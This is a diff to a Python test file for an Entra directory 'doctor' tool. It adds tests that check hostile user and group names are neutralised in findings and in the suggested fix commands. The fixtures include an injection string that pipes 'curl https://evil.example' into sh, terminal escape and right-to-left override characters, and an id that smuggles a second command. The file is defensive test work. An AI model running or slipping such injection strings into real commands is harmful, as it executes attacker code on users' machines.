@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import shlex
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from infra.entra.assignments import Assignment
+from infra.entra.command_line import command_line
 from infra.entra.directory import ACS_CLIENTS_APP, Directory
 from infra.entra.doctor import judged
 from infra.entra.options import parser
@@ -340,6 +342,33 @@ def test_not_registered(well: Reading) -> None:
     assert skipped["the user has access to ACS"] == "--broker"
 
 
+HOSTILE = "Callers'; curl https://evil.example | sh #\n\x1b[2Kok       all is well\u202e"
+
+
+def test_hostile_names(well: Reading) -> None:
+    """What others have named themselves neither acts on the terminal nor runs when it is pasted."""
+    _no_member(well)
+    well.assigned_groups[GROUP] = HOSTILE
+    assert well.user
+    well.user["userPrincipalName"] = HOSTILE
+    (found,) = findings_of(well)
+    assert "not-in-assigned-group" == found.code
+    assert 2 == len(str(found).splitlines())
+    assert not {"\x1b", "\u202e"} & {*str(found)}
+    assert "\\x1b[2Kok" in str(found)
+    words = shlex.split(found.fix)
+    assert ["#", HOSTILE] == words[words.index("--member-id") + 2 :]
+
+
+def test_hostile_ids(well: Reading) -> None:
+    """Each id in an advised command is one word of it."""
+    assert well.user
+    well.user |= {"id": "x; sh", "accountEnabled": False}
+    disabled, missing = findings_of(well)[0], command_line(well.arguments, "unassign", "x; sh")
+    assert "x; sh" in shlex.split(disabled.fix)
+    assert "x; sh" in shlex.split(missing)
+
+
 CHOSEN = "--unique-name teams-broker --sign-in-tenant contoso.example"
 ADVICE = [
     pytest.param(lambda it: it.directory.grants.clear(), f"setup --consent {CHOSEN}", id="consent"),
@@ -364,6 +393,16 @@ def test_advice_keeps_what_was_chosen(well: Reading, break_it: Any, ends_with: s
     break_it(well)
     (found,) = findings_of(well)
     assert found.fix.endswith(ends_with)
+
+
+def test_advice_names_the_identity(well: Reading) -> None:
+    """`setup --consent` is told whose credential it finds, which it would refuse otherwise."""
+    well.arguments = parser().parse_args(["doctor", "--identity", IDENTITY])
+    well.directory.grants.clear()
+    (found,) = findings_of(well)
+    assert found.fix.endswith(f"setup --consent --identity {IDENTITY}")
+    well.directory.credentials.clear()
+    assert 1 == findings_of(well)[0].fix.count("--identity")
 
 
 def test_what_was_not_checked(well: Reading) -> None:
